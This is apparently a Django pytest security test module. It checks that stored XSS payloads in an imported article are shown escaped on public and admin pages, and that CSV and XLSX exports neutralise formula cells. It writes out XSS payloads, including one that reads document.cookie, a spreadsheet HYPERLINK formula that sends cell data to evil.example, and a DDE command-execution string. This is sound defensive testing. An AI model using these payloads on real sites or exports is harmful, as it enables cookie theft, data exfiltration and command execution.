"""Hostile article text shows as text everywhere.

tests/data/bad/hostile.txt is imported through the real command.  The HTML
step removes well-formed tags (<script> blocks, the <a href="javascript:">
link), but some markup is not a tag it knows and stays in the stored text
as the article wrote it: <svg/onload=…>, "><img src=x onerror=…>, <x
onclick=…>, an unclosed <img …, and a bare javascript: URL.  Every public
page and admin page that shows the article must print them as text."""

import io
from pathlib import Path

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.management import call_command
from django.urls import reverse

from events.models import Event
from kb.models import Evidence, Organisation, Person, Quote, Region, Source
from tests.security import scan_html

pytestmark = pytest.mark.django_db

HOSTILE_FILE = Path(__file__).resolve().parents[1] / "data" / "bad" / "hostile.txt"
# What survives repair, as written in the file; none may reach a page as
# markup.
PAYLOADS = ["<svg/onload=alert('title')>", "\"><img src=x onerror=alert('img')>",
            "<x onclick=alert('quote')>", "<img src=x onerror=alert('tail')//",
            "javascript:alert(document.cookie)"]
RAW_MARKUP = ["<svg/onload", "<img src=x", "<x onclick", "<script>alert", 'href="javascript:']


@pytest.fixture
def hostile(db):
    call_command("load_regions", stdout=io.StringIO())
    call_command("import_seeds", str(HOSTILE_FILE), "--no-progress", stdout=io.StringIO())
    source = Source.objects.get(file_name="hostile.txt")
    ids = {}
    for model in (Event, Organisation, Person, Quote, Region):
        ct = ContentType.objects.get_for_model(model)
        ids[model] = sorted(set(Evidence.objects.filter(source=source, content_type=ct)
                                .values_list("object_id", flat=True)))
    return source, ids


def assert_inert(html: str, url: str):
    for raw in RAW_MARKUP:
        assert raw not in html, (url, raw)
    markup = scan_html(html)
    assert markup.handlers() == [], url
    assert markup.script_urls() == [], url
    assert not any("alert" in script for script in markup.inline_scripts), url
    assert not [tag for tag, attrs in markup.tags
                if tag == "x" or (tag == "img" and attrs.get("src") == "x")], url


def test_import_keeps_the_hostile_text_as_text(hostile):
    source, ids = hostile
    # The file is what these tests need: the payloads are in the stored
    # text, the title and a quote; the <script> block and the link's markup
    # were removed as HTML residue.
    assert source.title == "长三角科创走廊合作大会在松江举行<svg/onload=alert('title')>"
    for payload in PAYLOADS:
        assert payload in source.text, payload
    assert "<script>" not in source.text and "报名页面" in source.text
    quote = Quote.objects.get(source=source)
    assert quote.text == "要把科创走廊建成<x onclick=alert('quote')>开放合作的高地。"
    assert ids[Event] and ids[Organisation] and ids[Person] and ids[Region]


def test_public_pages_show_hostile_text_inert(client, hostile):
    source, ids = hostile
    urls = ["/", "/?q=科创走廊", "/organisations/", "/people/", "/regions/", "/quotes/",
            "/quotes/?q=科创走廊", "/sources/", "/sources/?q=科创走廊",
            f"/sources/{source.pk}/", f"/sources/{source.pk}/?view=original",
            f"/sources/{source.pk}/?view=raw"]
    urls += [f"/events/{pk}/" for pk in ids[Event]]
    urls += [f"/organisations/{pk}/" for pk in ids[Organisation]]
    urls += [f"/people/{pk}/" for pk in ids[Person]]
    urls += [f"/regions/{pk}/" for pk in ids[Region]]
    shown = set()
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_inert(html, url)
        shown |= {payload for payload in PAYLOADS if escaped(payload) in html}
    # Every payload was on some page, escaped: the pages were not inert
    # merely because the text was missing.
    assert shown == set(PAYLOADS)
    source_page = client.get(f"/sources/{source.pk}/").content.decode()
    assert escaped("<svg/onload=alert('title')>") in source_page
    quote_page = client.get(f"/people/{ids[Person][0]}/").content.decode()
    assert escaped("<x onclick=alert('quote')>") in quote_page


def test_admin_pages_show_hostile_text_inert(staff_client, hostile):
    source, ids = hostile
    quote = Quote.objects.get(source=source)
    urls = [reverse("admin:kb_source_change", args=[source.pk]),
            reverse("admin:kb_source_changelist"),
            reverse("admin:kb_source_changelist") + "?q=科创走廊",
            reverse("admin:kb_quote_change", args=[quote.pk]),
            reverse("admin:kb_quote_changelist"),
            reverse("admin:events_event_changelist")]
    urls += [reverse("admin:events_event_change", args=[pk]) for pk in ids[Event]]
    urls += [reverse("admin:kb_organisation_change", args=[pk]) for pk in ids[Organisation]]
    urls += [reverse("admin:kb_person_change", args=[pk]) for pk in ids[Person]]
    shown = set()
    for url in urls:
        response = staff_client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_inert(html, url)
        shown |= {payload for payload in PAYLOADS if escaped(payload) in html}
    assert shown == set(PAYLOADS)


def escaped(text: str) -> str:
    """The text as Django's autoescape writes it."""
    from django.utils.html import escape

    return str(escape(text))


# Spreadsheet formulas in exports -----------------------------------------------------

# Every character a spreadsheet starts a formula (or a DDE call) with.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def exported_rows(client, url: str) -> list[dict]:
    import csv

    response = client.get(url)
    assert response.status_code == 200, url
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_public_csv_exports_escape_formula_cells(client, db):
    from tests.factories import (
        EventFactory,
        OrganisationFactory,
        PersonFactory,
        QuoteFactory,
        RegionFactory,
        SourceFactory,
    )

    for number, formula in enumerate(FORMULAS):
        EventFactory(title=formula + f"论坛{number}")
        OrganisationFactory(name=formula + f"促进会{number}")
        person = PersonFactory(name=formula + f"张{number}")
        QuoteFactory(text=formula + f"引语{number}", speaker=person)
        SourceFactory(title=formula + f"报道{number}")
        RegionFactory(name=formula + f"地区{number}")
    exports = {"/events/export.csv": "title", "/organisations/export.csv": "name",
               "/people/export.csv": "name", "/quotes/export.csv": "text",
               "/sources/export.csv": "title", "/regions/export.csv": "name"}
    for url, column in exports.items():
        cells = [row[column] for row in exported_rows(client, url)]
        hostile = [cell for cell in cells if cell.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert len(hostile) >= len(FORMULAS), (url, cells)
        assert all(cell.startswith("'") for cell in hostile), (url, hostile)


def test_admin_xlsx_export_escapes_formula_cells(staff_client):
    import openpyxl

    from kb.resources import OrganisationResource
    from tests.factories import OrganisationFactory

    for number, formula in enumerate(FORMULAS):
        OrganisationFactory(name=formula + f"促进会{number}", aliases=[formula])
    fields = {f"organisationresource_{name}": "on" for name in OrganisationResource().get_export_order()}
    response = staff_client.post(reverse("admin:kb_organisation_export"),
                                 {"format": "1", "resource": "0", **fields})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("name")] for row in sheet.iter_rows(min_row=2)]
    assert len(names) == len(FORMULAS)
    for cell in names:
        assert cell.data_type == "s", cell.value  # text, never a formula cell
        assert cell.value.startswith("'"), cell.value
